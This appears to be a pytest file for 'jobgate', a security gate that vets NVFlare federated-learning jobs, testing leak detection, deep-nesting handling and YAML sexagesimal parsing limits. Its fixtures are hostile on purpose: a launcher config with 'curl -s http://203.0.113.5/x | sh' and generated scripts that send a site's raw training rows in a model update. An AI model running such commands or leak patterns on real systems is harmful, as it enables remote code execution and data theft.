"""Session 53 (hardening53): the same job gets the same verdict; the site stays up and refuses; no input is
bounded only by the worker's clock.

- The flow's rounds: a chain of fields needed one round a store when its methods were defined reader first, and
  past MAX_ROUNDS the stores were widened (a marker no reduction cleans), so the same methods escalated in one
  order and were accepted in the other (speed52's strict xfail, tests/test_speed52.py). Stores still growing now
  go on to their fixpoint, up to MAX_STORE_ROUNDS: the same result in either order.
- A model update nested 3,000 deep: NVFlare's own `apply_filters` (apis/utils/task_utils.py) walks the result for
  pass-through references (fuel/utils/fobs/decomposers/via_downloader.py: contains_lazy_download_ref, recursive)
  before any filter, and raises RecursionError; ClientRunner (private/fed/client/client_runner.py, `_do_task`)
  catches it and replies TASK_RESULT_FILTER_ERROR with no DXO. The job process stays up; jobgate's filter never
  sees that result. A nesting NVFlare's walk survives reaches jobgate's filter, which refuses it.
- PyYAML's sexagesimal integers (`1:59:59:...`) are built in quadratic time: a number of more than
  MAX_SEXAGESIMAL_PARTS parts is cut before any reader parses the YAML, and the config is escalated.
"""

from __future__ import annotations

import time
from pathlib import Path

import pytest
from nvflare.apis.dxo import DXO, DataKind
from nvflare.apis.executor import Executor
from nvflare.apis.fl_constant import FLContextKey, ReservedKey, ReturnCode
from nvflare.apis.fl_context import FLContext
from nvflare.private.fed.client.client_engine_executor_spec import TaskAssignment
from nvflare.private.fed.client.client_runner import ClientRunner, ClientRunnerConfig, TaskRouter

import redteam_kit as kit
from analyzer import api
from analyzer.engine import isolate
from analyzer.engine.configs import MAX_SEXAGESIMAL_PARTS, bounded_yaml, read_config
from analyzer.model import Decision
from test_update_filter import MODEL, refused, site  # noqa: F401  (the fixture)


# ---- 1. the verdict does not follow the order the module defines its functions in ------------------------------

def _field_chain(length: int, reverse: bool) -> str:
    """`self.f0 = self.f1`, ..., the site's rows in the last field, f0 sent; defined reader first (one store a
    round) or writer first (one round)."""
    methods = [f"    def m{i}(self):\n        self.f{i} = self.f{i + 1}\n" for i in range(length)]
    methods.append(f"    def m{length}(self):\n        self.f{length} = pd.read_csv('/data/site-1/train.csv').values\n")
    if reverse:
        methods.reverse()
    return ("import nvflare.client as flare\nimport pandas as pd\n\n\nclass C:\n" + "".join(methods) +
            "    def run(self):\n        flare.send(flare.FLModel(params={'x': self.f0}))\n\n\nC().run()\n")


@pytest.mark.parametrize("length", [6, 12])
def test_a_chain_of_fields_rejects_in_either_order(length: int) -> None:
    # main: the defined-reader-first order escalated on the widened round's marker, the other rejected
    for reverse in (False, True):
        report = kit.scan_text(_field_chain(length, reverse))
        assert report.decision is Decision.REJECT, (reverse, kit.findings(report))
        assert kit.holds(report, "update-channel-leak.raw-data-in-update"), kit.findings(report)


def test_a_chain_past_max_store_rounds_is_widened_never_accepted() -> None:
    # defined reader first, 300 fields: widened past MAX_STORE_ROUNDS, reviewed; writer first: the rows found
    forward = kit.scan_text(_field_chain(300, False))
    backward = kit.scan_text(_field_chain(300, True))
    assert forward.decision is Decision.ESCALATE and kit.holds(forward, "update-channel-leak.unknown-provenance")
    assert backward.decision is Decision.REJECT


# ---- 2. a model update nested past NVFlare's recursion, through NVFlare's own ClientRunner ---------------------

class _Engine:
    """NVFlare's engine, as far as ClientRunner's task path asks it (events and audit records go nowhere)."""

    def __getattr__(self, name):
        return lambda *args, **kwargs: None


class _Returns(Executor):
    def __init__(self, result: DXO):
        super().__init__()
        self.result = result

    def execute(self, task_name, shareable, fl_ctx, abort_signal):
        return self.result.to_shareable()


def _nested(depth: int) -> DXO:
    """A METRICS DXO whose one name is rows of the site, in `depth` collections."""
    dxo = DXO(DataKind.METRICS, {"5.1,3.5,1.4,0.2;" * 4: 1.0})
    for _ in range(depth):
        dxo = DXO(DataKind.COLLECTION, {"a": dxo})
    return dxo


def _run_task(scope, result: DXO):
    """One task through ClientRunner as a site's job process runs it, the site's privacy scope in force."""
    router = TaskRouter()
    router.add_executor(["train"], _Returns(result))
    runner = ClientRunner({}, ClientRunnerConfig(router, {}, {}), "job-1", _Engine())
    ctx = FLContext()
    ctx.set_prop(ReservedKey.ENGINE, _Engine(), private=True, sticky=False)
    ctx.set_prop(FLContextKey.SCOPE_OBJECT, scope, private=True, sticky=False)
    ctx.set_prop(ReservedKey.IDENTITY_NAME, "site-1", private=False, sticky=False)
    peer = FLContext()
    peer.set_prop(ReservedKey.RUN_NUM, "job-1", private=False, sticky=False)
    ctx.set_peer_context(peer)
    return runner._process_task(TaskAssignment("train", "t1", DXO(DataKind.WEIGHTS, MODEL).to_shareable()), ctx)


def test_a_result_nested_past_nvflares_recursion_fails_the_task_not_the_site(site):  # noqa: F811
    s = site()
    reply = _run_task(s.scope, _nested(3000))
    assert reply.get_return_code() == ReturnCode.TASK_RESULT_FILTER_ERROR
    assert "DXO" not in reply  # nothing of the result leaves
    assert not s.log.exists() or not s.log.read_text().strip()  # jobgate's filter never saw it
    # the same process runs the next task, judged by jobgate's filter: a collection NVFlare's walk survives
    refused(_run_task(s.scope, _nested(20)))
    assert any("update_filter.max_depth" in p for p in s.last()["problems"]), s.last()


# ---- 3. YAML sexagesimal numbers -------------------------------------------------------------------------------

@pytest.mark.serial  # asserts on wall time
def test_a_long_sexagesimal_number_is_cut_before_parsing_lines_kept() -> None:
    text = "a: 1:30:00\nb: 1" + ":59" * 50 + "\nc: 2\n"
    bounded, line = bounded_yaml(text)
    assert line == 2 and bounded == "a: 1:30:00\nb: 1\nc: 2\n"
    assert bounded_yaml("a: 1" + ":59" * (MAX_SEXAGESIMAL_PARTS - 1) + "\n") == \
        ("a: 1" + ":59" * (MAX_SEXAGESIMAL_PARTS - 1) + "\n", 0)
    started = time.process_time()
    doc = read_config("config_fed_client.yaml", ("n: 1" + ":59" * 200_000 + "\nx: 3\n").encode())
    assert time.process_time() - started < 10  # main: minutes of CPU (PyYAML's quadratic integer)
    assert doc.ok and doc.data == {"n": 1, "x": 3}
    assert [(p.kind, p.line) for p in doc.problems] == [("parse", 1)]


_LAUNCHER = ("format_version: 2\nexecutors:\n  - tasks: [train]\n    executor:\n"
             "      path: nvflare.app_common.executors.client_api_launcher_executor.ClientAPILauncherExecutor\n"
             "      args:\n        launcher_id: launcher\ncomponents:\n  - id: launcher\n"
             "    path: nvflare.app_common.launchers.subprocess_launcher.SubprocessLauncher\n"
             "    args:\n      script: \"curl -s http://203.0.113.5/x | sh\"\ntimeout: 1" + ":59" * 200_000 + "\n")


def test_a_config_with_a_long_sexagesimal_number_is_read_at_a_site(tmp_path: Path) -> None:
    app = tmp_path / "app"
    (app / "config").mkdir(parents=True)
    (app / "custom").mkdir()
    (app / "config" / "config_fed_client.yaml").write_text(_LAUNCHER)
    (app / "custom" / "train.py").write_text("print('hi')\n")
    server = isolate.ForkServer()
    try:
        _, report = api.gate(app, kit.POLICY, server=server)
    finally:
        server.close()
    assert report.decision is Decision.REJECT, kit.findings(report)
    assert kit.holds(report, "config-attack.launcher-shell")  # the payload, read beside the cut number
    assert any(f.rule == "unanalyzable.config-parse" and "sexagesimal" in f.message for f in report.findings)
